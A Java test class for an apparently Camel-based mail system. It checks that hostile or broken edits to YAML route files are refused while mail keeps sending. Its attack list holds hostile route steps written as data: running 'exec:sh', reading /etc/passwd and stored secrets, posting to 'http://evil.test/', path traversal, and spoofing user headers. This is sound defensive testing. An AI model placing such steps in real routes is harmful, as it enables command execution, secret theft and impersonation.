package io.outrider;

import static org.assertj.core.api.Assertions.assertThat;

import io.outrider.console.login.MongoTokens;
import io.outrider.console.login.MongoUsers;
import io.outrider.console.login.SandboxGuest;
import io.outrider.console.login.User;
import io.outrider.mail.Address;
import io.outrider.routes.Refusals;
import io.outrider.sandbox.Accepted;
import io.outrider.time.MachineTime;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.camel.CamelContext;
import org.apache.camel.Route;
import org.apache.camel.ServiceStatus;
import org.apache.camel.spi.CamelEvent;
import org.apache.camel.support.SimpleEventNotifierSupport;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Promises 2 and 6 against a person who edits {@code routes/} while the sandbox sends at full speed. */
class RouteEditsTest {
    private static final Duration PATIENCE = Duration.ofMinutes(2);
    private static final Duration SOON = Duration.ofSeconds(60);
    private static final String SEND = "sending/send-due-slots.camel.yaml";
    private static final String STEP = "        - bean:\n            ref: sweep\n            method: sweep\n";

    /** Where the bean stands that a public path must not reach. */
    private static final Map<String, String> LED_TO =
            Map.of("users", "console/keep-users.camel.yaml", "switches", "console/switch-routes.camel.yaml");

    @TempDir
    Path home;

    private String secret = "";
    private final HttpClient http = PlainHttp.client();
    private final Map<String, String> originals = new HashMap<>();
    private final List<String> foundByCamelAlone = new ArrayList<>();

    /** Everything that runs while somebody edits. */
    private interface Editing {
        void against(Engine engine, Set<String> routes) throws Exception;
    }

    @Test
    @Tag("long")
    void noEditStopsARouteOrReachesRoundAPromise() throws Exception {
        whileItSends((engine, routes) -> {
            Map<String, byte[]> attacks = attacks();
            Map<String, byte[]> accidents = accidents();
            assertThat(attacks).hasSizeGreaterThanOrEqualTo(50);
            assertThat(accidents).hasSizeGreaterThanOrEqualTo(30);
            refused(engine, attacks, routes);
            assertThat(foundByCamelAlone)
                    .as("attacks that a start would not refuse")
                    .isEmpty();
            refused(engine, accidents, routes);
            deletedFileIsRefused(engine, routes);
            goodEditIsTakenInTheMiddleOfASend(engine);
            theApiFollowsItsFile(engine);
            switchedOffStaysOffThroughAnEdit(engine);
            removedThrottleIsTakenAndSendsNothingTwice(engine);
        });
    }

    @Test
    @Tag("long")
    void aFewEditsInTheMiddleOfSending() throws Exception {
        whileItSends((engine, routes) -> {
            refused(engine, someOf(attacks(), 20), routes);
            refused(engine, someOf(accidents(), 20), routes);
            goodEditIsTakenInTheMiddleOfASend(engine);
            theApiFollowsItsFile(engine);
            switchedOffStaysOffThroughAnEdit(engine);
        });
    }

    private void switchedOffStaysOffThroughAnEdit(Engine engine) throws Exception {
        List<String> started = new CopyOnWriteArrayList<>();
        assertThat(ask(engine, "POST", "/api/v1/routes/sweep-drafts/stop")).contains("\"wanted\":\"stopped\"");
        Awaitility.await().atMost(SOON).until(() -> status(engine, "sweep-drafts") == ServiceStatus.Stopped);
        context(engine).getManagementStrategy().addEventNotifier(new SimpleEventNotifierSupport() {
            @Override
            public void notify(CamelEvent event) {
                if (event instanceof CamelEvent.RouteStartedEvent start) {
                    started.add(start.getRoute().getRouteId());
                }
            }
        });
        String file = "sending/sweep-drafts.camel.yaml";
        write(file, original(file).replace("description: End", "description: As edited, end"));
        Awaitility.await().atMost(SOON).until(() -> description(engine, "sweep-drafts")
                .startsWith("As edited"));
        assertThat(status(engine, "sweep-drafts")).isEqualTo(ServiceStatus.Stopped);
        write(SEND, original(SEND).replace("one mail after the other", "one by one"));
        Awaitility.await().atMost(SOON).until(() -> description(engine, "send-group")
                .contains("one by one"));
        assertThat(started).contains("send-group").doesNotContain("sweep-drafts");
        assertThat(ask(engine, "GET", "/health")).contains("sweep-drafts").doesNotContain("\"down\"");
        assertThat(ask(engine, "POST", "/api/v1/routes/sweep-drafts/start")).contains("\"state\":\"started\"");
        assertThat(started).contains("sweep-drafts");
    }

    private void whileItSends(Editing editing) throws Exception {
        copy("routes");
        copy("config");
        try (Engine engine = Engine.start(home, environment())) {
            logIn(engine);
            Awaitility.await()
                    .atMost(PATIENCE)
                    .until(() -> !engine.sandbox().world().accepted().isEmpty());
            Set<String> routes = running(engine);
            editing.against(engine, routes);
            assertThat(running(engine)).isEqualTo(routes);
            assertThat(engine.sandbox().world().duplicates()).isEmpty();
            assertThat(sentToSuppressed(engine)).isEmpty();
        }
    }

    private void logIn(Engine engine) {
        MachineTime time = MachineTime.system();
        User guest =
                new MongoUsers(engine.stores().store()).find(SandboxGuest.EMAIL).orElseThrow();
        secret = new MongoTokens(engine.stores().store(), time)
                .session(guest, false, Duration.ofHours(1))
                .secret();
    }

    private static Map<String, byte[]> someOf(Map<String, byte[]> edits, int each) {
        Map<String, byte[]> some = new LinkedHashMap<>();
        int number = 0;
        for (Map.Entry<String, byte[]> edit : edits.entrySet()) {
            if (number++ % each == 0) {
                some.put(edit.getKey(), edit.getValue());
            }
        }
        return some;
    }

    private void refused(Engine engine, Map<String, byte[]> edits, Set<String> routes) throws Exception {
        String last = "";
        for (Map.Entry<String, byte[]> edit : edits.entrySet()) {
            String file = edit.getKey().substring(0, edit.getKey().indexOf(' '));
            if (!last.isEmpty() && !file.equals(last)) {
                takeBack(engine, last);
            }
            refused(engine, edit.getKey(), edit.getValue(), routes);
            last = file;
        }
        takeBack(engine, last);
    }

    /** After the edit: a finding in that file, everything runs, and health says so. */
    private void refused(Engine engine, String name, byte[] content, Set<String> routes) throws Exception {
        String file = name.substring(0, name.indexOf(' '));
        String place = name.endsWith(" without a login") ? LED_TO.get(name.split(" ")[1]) : file;
        Path path = home.resolve("routes").resolve(file);
        Files.createDirectories(path.getParent());
        Files.write(path, content);
        Awaitility.await(name).atMost(SOON).untilAsserted(() -> assertThat(
                        engine.live().findings())
                .extracting(Refusals.Refusal::finding)
                .as(name)
                .anySatisfy(f -> {
                    assertThat(f.file()).isEqualTo(place);
                    assertThat(f.line()).isPositive();
                }));
        if (engine.live().findings().stream()
                .allMatch(
                        r -> r.finding().toString().matches(".*(Camel's verdict|component or language|trial is).*"))) {
            foundByCamelAlone.add(name);
        }
        assertThat(running(engine)).as(name).isEqualTo(routes);
        assertThat(get(engine, "/health")).contains("\"degraded\"", place + ":");
    }

    private void takeBack(Engine engine, String file) throws IOException {
        Path path = home.resolve("routes").resolve(file);
        if (originals.containsKey(file)) {
            Files.writeString(path, originals.get(file));
        } else {
            Files.delete(path);
        }
        Awaitility.await(file).atMost(SOON).until(() -> engine.live().findings().isEmpty());
    }

    private void deletedFileIsRefused(Engine engine, Set<String> routes) throws Exception {
        Files.delete(home.resolve("routes/inbox/handle-mail.camel.yaml"));
        Awaitility.await().atMost(SOON).untilAsserted(() -> assertThat(
                        engine.live().findings())
                .extracting(r -> r.finding().toString())
                .anySatisfy(f -> assertThat(f)
                        .startsWith("inbox/read-mailboxes.camel.yaml:")
                        .contains("target is 'direct:handle-mail'")));
        assertThat(running(engine)).isEqualTo(routes);
        takeBack(engine, "inbox/handle-mail.camel.yaml");
    }

    private void goodEditIsTakenInTheMiddleOfASend(Engine engine) throws Exception {
        int before = engine.sandbox().world().accepted().size();
        Awaitility.await()
                .atMost(PATIENCE)
                .until(() -> engine.sandbox().world().accepted().size() > before);
        String good = originals.get(SEND).replace("one mail after the other", "one after the other, as edited");
        write(SEND, good);
        long written = System.nanoTime();
        Awaitility.await()
                .pollInterval(Duration.ofMillis(10))
                .atMost(PATIENCE)
                .until(() -> "One mailbox's group, one after the other, as edited"
                        .equals(description(engine, "send-group")));
        Duration took = Duration.ofNanos(System.nanoTime() - written);
        System.out.println("a good edit took effect " + took.toMillis() + " ms after its last write");
        Awaitility.await().atMost(SOON).until(() -> engine.live().findings().isEmpty());
    }

    private void theApiFollowsItsFile(Engine engine) throws Exception {
        String file = "console/serve-api.camel.yaml";
        write(file, originals.get(file).replace("description: Counts by stage", "description: Counts, as edited"));
        Awaitility.await().atMost(SOON).untilAsserted(() -> assertThat(get(engine, "/api/openapi.json"))
                .containsOnlyOnce("Counts, as edited")
                .doesNotContain("Counts by stage"));
        String overview = "console/read-overview.camel.yaml";
        write(
                overview,
                originals.get(overview).replace("description: Profile, version", "description: The profile, version"));
        Awaitility.await().atMost(SOON).until(() -> description(engine, "read-status")
                .startsWith("The profile"));
        for (String path : List.of("status", "stages", "routes", "plan/today", "mailboxes", "drafts", "events")) {
            assertThat(answer(engine, "GET", "/api/v1/" + path, secret).statusCode())
                    .as(path)
                    .isEqualTo(200);
            assertThat(answer(engine, "GET", "/api/v1/" + path, "").statusCode())
                    .as(path)
                    .isEqualTo(401);
        }
        assertThat(answer(engine, "POST", "/api/v1/status", secret).statusCode())
                .isEqualTo(405);
        write(file, originals.get(file).replace("path: /stages", "path: /counts"));
        Awaitility.await().atMost(SOON).until(() -> get(engine, "/api/openapi.json")
                .contains("/api/v1/counts"));
        assertThat(answer(engine, "GET", "/api/v1/counts", secret).statusCode()).isEqualTo(200);
        assertThat(answer(engine, "GET", "/api/v1/stages", secret).statusCode()).isEqualTo(404);
        write(file, originals.get(file));
        Awaitility.await().atMost(SOON).until(() -> !get(engine, "/api/openapi.json")
                .contains("/api/v1/counts"));
    }

    private void removedThrottleIsTakenAndSendsNothingTwice(Engine engine) throws Exception {
        String text = originals.get(SEND);
        int from = text.indexOf("              - throttle:");
        write(SEND, text.substring(0, from) + text.substring(text.indexOf("              - to:", from)));
        Awaitility.await().atMost(PATIENCE).until(() -> description(engine, "send-group")
                .equals("One mailbox's group, one mail after the other"));
        Awaitility.await().atMost(SOON).until(() -> engine.live().findings().isEmpty());
        int before = engine.sandbox().world().accepted().size();
        Awaitility.await()
                .atMost(PATIENCE)
                .until(() -> engine.sandbox().world().accepted().size() >= before + 5);
    }

    private void write(String file, String text) throws IOException {
        Path path = home.resolve("routes").resolve(file);
        Path fresh = path.resolveSibling(".fresh");
        Files.writeString(fresh, text);
        Files.move(fresh, path, java.nio.file.StandardCopyOption.ATOMIC_MOVE);
    }

    /** Twenty and more ways round promise 2. */
    private Map<String, byte[]> attacks() {
        Map<String, String> steps = new LinkedHashMap<>();
        steps.put("foreign mail server", "- to: {uri: 'smtp://mail.test:25'}");
        steps.put("foreign mail server by header", "- toD: {uri: 'smtps://${header.host}'}");
        steps.put("mail server by property", "- to: {uri: '{{smtp.timeout}}'}");
        steps.put("update of a draft", mongo("drafts", "update"));
        steps.put("removal of suppressions", mongo("suppressions", "remove"));
        steps.put("save of a mailbox", mongo("mailboxes", "save"));
        steps.put("reading users", mongo("users", "findAll"));
        steps.put("a command", mongo("drafts", "command"));
        steps.put("insert of a draft", mongo("drafts", "insert"));
        steps.put("a program", "- to: {uri: 'exec:sh'}");
        steps.put("groovy", "- setBody: {expression: {groovy: {expression: '1'}}}");
        steps.put("language endpoint", "- to: {uri: 'language:simple:x'}");
        steps.put("bean by type", "- bean: {beanType: java.lang.Runtime, method: exit}");
        steps.put("bean endpoint", "- to: {uri: 'bean:sweep?method=recover'}");
        steps.put("class endpoint", "- to: {uri: 'class:java.lang.Runtime'}");
        steps.put("a method that is not for routes", "- bean: {ref: sweep, method: recover}");
        steps.put("a bean that is not for routes", "- bean: {ref: providerWire, method: properties}");
        steps.put("environment", "- setBody: {expression: {constant: {expression: '{{env:HOME}}'}}}");
        steps.put("secret of the settings", "- setBody: {expression: {constant: {expression: '{{mongodb.uri}}'}}}");
        steps.put("file of secrets", "- setBody: {expression: {constant: {expression: 'resource:file:/etc/passwd'}}}");
        steps.put("write outside", "- to: {uri: 'file:/etc'}");
        steps.put("write above", "- to: {uri: 'file:data/../..'}");
        steps.put("foreign host", "- to: {uri: 'http://evil.test/'}");
        steps.put("foreign client", "- to: {uri: '{{provider.jsearch.url}}', parameters: {proxyHost: evil.test}}");
        steps.put("reflection", "- setBody: {expression: {simple: {expression: '${body.class.classLoader}'}}}");
        steps.put("the context", "- setBody: {expression: {simple: {expression: '$simple{camelContext.stop}'}}}");
        steps.put("the scheduler", "- setBody: {expression: {simple: {expression: '${header.scheduler.shutdown}'}}}");
        steps.put("exotic strategy", "- aggregate: {aggregationStrategy: '#class:x.Y', steps: []}");
        steps.put("kamelet", "- to: {uri: 'kamelet:x'}");
        steps.put("bodies in the log", "- log: {message: '${body}'}");
        steps.putAll(borrowedAuthority());
        Map<String, byte[]> edits = new LinkedHashMap<>();
        steps.forEach((name, step) -> edits.put(
                "sending/sweep-drafts.camel.yaml " + name,
                bytes(original("sending/sweep-drafts.camel.yaml") + "        " + step + "\n")));
        edits.put("sending/zweep.camel.yaml second consumer of deliver", bytes(extra("again", "direct:deliver")));
        edits.put("sending/zweep.camel.yaml the same in other words", bytes(extra("again", "direct://deliver")));
        edits.put("sending/zweep.camel.yaml second trigger", bytes(extra("again", "quartz:sending/sweep-drafts")));
        edits.put(
                "sending/zweep.camel.yaml door outside of the login",
                bytes(extra("again", "platform-http:/u/{token}\n      parameters: {httpMethodRestrict: PUT}")));
        edits.put(
                "console/serve-api.camel.yaml rest to deliver",
                bytes(original("console/serve-api.camel.yaml").replace("direct:read-status", "direct:deliver")));
        edits.put(
                "console/serve-api.camel.yaml rest outside the login",
                bytes(original("console/serve-api.camel.yaml").replace("path: /api/v1", "path: /u")));
        String held = "console/held-drafts.camel.yaml";
        edits.put(
                held + " user from the path",
                bytes(original(held).replace("/drafts/{id}/", "/drafts/{Outrider-User}/")));
        edits.put(
                held + " user by default",
                bytes(
                        original(held)
                                .replace(
                                        "          - name: id\n            type: path",
                                        "          - name: Outrider-User\n            defaultValue: ada\n            type: header")));
        edits.put(
                held + " user from the body",
                bytes(original(held).replace("${body}, ${header.Outrider-User}", "${body}, ${body}")));
        String logins = "console/serve-logins.camel.yaml";
        edits.put(
                logins + " users without a login",
                bytes(original(logins).replace("to: direct:log-in", "to: direct:add-user")));
        edits.put(
                logins + " switches without a login",
                bytes(original(logins).replace("to: direct:log-in", "to: direct:switch-route")));
        edits.put(
                "errors.camel.yaml hidden failures",
                bytes(original("errors.camel.yaml")
                        .replace("deadLetterUri: direct:quarantine", "deadLetterUri: direct:send-alert")));
        return edits;
    }

    /** Ways to decide as somebody who is not there. */
    private static Map<String, String> borrowedAuthority() {
        Map<String, String> steps = new LinkedHashMap<>();
        String ada = "expression: {constant: {expression: ada}}}";
        steps.put("a user", "- setHeader: {name: Outrider-User, " + ada);
        steps.put("a user in small letters", "- setHeader: {name: outrider-user, " + ada);
        steps.put("a user in dotless letters", "- setHeader: {name: Outr\u0131der-User, " + ada);
        steps.put("a user by a name that is made up", "- setHeader: {name: 'Out${body}', " + ada);
        steps.put("a user among others", "- setHeaders: {headers: [{name: Outrider-Session, " + ada + "]}");
        steps.put("a user as a variable", "- setVariable: {name: 'header:x.Outrider-User', " + ada);
        steps.put("no user", "- removeHeader: {name: Outrider-User}");
        steps.put("a draft settled", "- bean: {ref: heldDrafts, method: \"settle('x', ${body}, 'ada')\"}");
        steps.put(
                "a draft settled by the body",
                "- bean: {ref: heldDrafts, method: 'settle(${body}, ${body}, ${body})'}");
        steps.put("a draft settled without words", "- bean: {ref: heldDrafts, method: settle}");
        steps.put("a user added", "- bean: {ref: userDesk, method: \"add('ada', ${body})\"}");
        steps.put("a user removed", "- bean: {ref: userDesk, method: 'remove(${header.by}, ${header.id})'}");
        steps.put("another's session", "- bean: {ref: loginDesk, method: \"logout('ada', ${body})\"}");
        steps.put("a password", "- bean: {ref: loginDesk, method: 'password(${body}, ${body}, ${body}, ${body})'}");
        steps.put("a route switched", "- bean: {ref: switchboard, method: \"turn('deliver', 'stop', 'ada', '')\"}");
        steps.put("a job run", "- bean: {ref: switchboard, method: \"run('sweep-drafts', ${body})\"}");
        steps.put(
                "an expression that decides",
                "- setBody: {expression: {method: {ref: heldDrafts, method: \"settle('x', 'y', 'ada')\"}}}");
        steps.put("a session inserted", mongo("sessions", "insert"));
        steps.put("a switch inserted", mongo("switches", "insert"));
        steps.put("reconciliation by hand", "- bean: {ref: reconciliation, method: settle}");
        return steps;
    }

    private static String mongo(String collection, String operation) {
        return "- to: {uri: 'mongodb:store', parameters: {collection: " + collection + ", operation: " + operation
                + "}}";
    }

    /** Thirty and more ways to get it wrong. */
    private Map<String, byte[]> accidents() throws IOException {
        String file = "sending/sweep-drafts.camel.yaml";
        String text = original(file);
        Map<String, byte[]> edits = new LinkedHashMap<>();
        Map<String, String[]> words = new LinkedHashMap<>();
        words.put("unknown step", new String[] {"- bean:", "- baen:"});
        words.put("unknown key", new String[] {"ref: sweep", "reff: sweep"});
        words.put("unknown bean", new String[] {"ref: sweep", "ref: swep"});
        words.put("unknown method", new String[] {"method: sweep", "method: sweeep"});
        words.put("no method", new String[] {"            method: sweep\n", ""});
        words.put("unknown option", new String[] {"cron:", "crno:"});
        words.put("bad cron", new String[] {"\"{{sending.sweep.cron}}\"", "every minute"});
        words.put("unknown property", new String[] {"{{sending.sweep.cron}}", "{{sending.swep.cron}}"});
        words.put("unknown configuration", new String[] {"Id: quarantine", "Id: quarantin"});
        words.put("no configuration", new String[] {"    routeConfigurationId: quarantine\n", ""});
        words.put("no id", new String[] {"    id: sweep-drafts\n", ""});
        words.put("no group", new String[] {"    group: sending\n", ""});
        words.put("foreign group", new String[] {"group: sending", "group: inbox"});
        words.put("no description", new String[] {"    description: End", "    note: End"});
        words.put("tab", new String[] {"      steps:", "\tsteps:"});
        words.put("wrong indentation", new String[] {"      steps:", "     steps:"});
        words.put("missing colon", new String[] {"steps:", "steps"});
        words.put("open bracket", new String[] {"ref: sweep", "ref: [sweep"});
        words.put("open quote", new String[] {"ref: sweep", "ref: \"sweep"});
        words.put("key twice", new String[] {"ref: sweep", "ref: sweep\n            ref: sweep"});
        words.put("alias", new String[] {"ref: sweep", "ref: *sweep"});
        words.put("unknown top level", new String[] {"- route:", "- rout:"});
        words.put("unknown scheme", new String[] {"quartz:sending", "qartz:sending"});
        words.put("bad name of an endpoint", new String[] {"quartz:sending/sweep-drafts", "quartz:"});
        words.put("no header", new String[] {"# Trigger:", "# Trigered:"});
        words.forEach((name, change) -> {
            assertThat(text).as(name).contains(change[0]);
            edits.put(file + " " + name, bytes(text.replace(change[0], change[1])));
        });
        edits.put(file + " empty", new byte[0]);
        edits.put(file + " half written", bytes(text.substring(0, text.indexOf("parameters:") + 5)));
        edits.put(file + " only comments", bytes(text.substring(0, text.indexOf("- route:"))));
        edits.put(file + " byte order mark", bytes("\uFEFF" + text));
        edits.put(file + " binary", new byte[] {0, (byte) 0xff, (byte) 0xfe, 7, 'r', 0});
        edits.put(file + " ten megabytes", bytes(text + "# x\n".repeat(2_500_000)));
        edits.put(file + " duplicate id", bytes(text + route("sweep-drafts", "direct:again")));
        edits.put(file + " unknown target", bytes(text + "        - to: {uri: 'direct:nobody'}\n"));
        edits.put(
                file + " bad expression",
                bytes(text + "        - setBody: {expression: {simple: {expression: '${body'}}}\n"));
        edits.put(file + " endless nesting", bytes("[".repeat(30_000)));
        edits.put(
                "sending/use.camel.yaml deleted template",
                bytes(header() + "- templatedRoute:\n    routeTemplateRef: gone\n    routeId: use\n"));
        edits.put("Sending.camel.yaml bad name", bytes(text));
        assertThat(text).contains(STEP);
        return edits;
    }

    private static String extra(String id, String from) {
        return header() + route(id, from);
    }

    private static String header() {
        return "# Does a thing again.\n# Trigger:   somebody.\n# Guarantee: none at all.\n# Failure:   quarantine.\n\n";
    }

    private static String route(String id, String from) {
        return "\n- route:\n    id: " + id + "\n    group: sending\n    description: Again\n"
                + "    routeConfigurationId: quarantine\n    from:\n      uri: " + from + "\n      steps:\n" + STEP;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private String original(String file) {
        return originals.get(file);
    }

    private static CamelContext context(Engine engine) {
        return engine.live().context();
    }

    /** Empty in the instant in which a route is made anew. */
    private static String description(Engine engine, String route) {
        Route now = context(engine).getRoute(route);
        return now == null ? "" : now.getDescription();
    }

    private static Set<String> running(Engine engine) {
        return context(engine).getRoutes().stream()
                .filter(r ->
                        context(engine).getRouteController().getRouteStatus(r.getRouteId()) == ServiceStatus.Started)
                .map(r -> r.getRouteId())
                .collect(Collectors.toCollection(TreeSet::new));
    }

    private static ServiceStatus status(Engine engine, String route) {
        return context(engine).getRouteController().getRouteStatus(route);
    }

    private String get(Engine engine, String path) throws Exception {
        return ask(engine, "GET", path);
    }

    private String ask(Engine engine, String method, String path) throws Exception {
        return answer(engine, method, path, secret).body();
    }

    private HttpResponse<String> answer(Engine engine, String method, String path, String token) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + engine.port() + path))
                .method(method, HttpRequest.BodyPublishers.noBody());
        if (!token.isEmpty()) {
            request.header("Authorization", "Bearer " + token);
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private void copy(String folder) throws IOException {
        try (Stream<Path> all = Files.walk(Path.of(folder))) {
            for (Path from : all.filter(Files::isRegularFile).toList()) {
                Path to = home.resolve(from);
                Files.createDirectories(to.getParent());
                Files.copy(from, to);
                if (folder.equals("routes")) {
                    originals.put(Path.of(folder).relativize(from).toString(), Files.readString(from));
                }
            }
        }
    }

    private static Map<String, String> environment() {
        Map<String, String> environment = new HashMap<>();
        environment.put("OUTRIDER_PORT", "0");
        environment.put("OUTRIDER_MANAGEMENT_PORT", "0");
        environment.put("OUTRIDER_SANDBOX_SPEED", "0");
        return environment;
    }

    private static List<String> sentToSuppressed(Engine engine) {
        List<String> wrong = new ArrayList<>();
        for (Accepted mail : engine.sandbox().world().accepted()) {
            for (String recipient : mail.to()) {
                engine.stores()
                        .suppressions()
                        .forbids(new Address(recipient))
                        .filter(s -> s.createdAt().isBefore(mail.at()))
                        .ifPresent(s -> wrong.add(recipient));
            }
        }
        return wrong;
    }
}
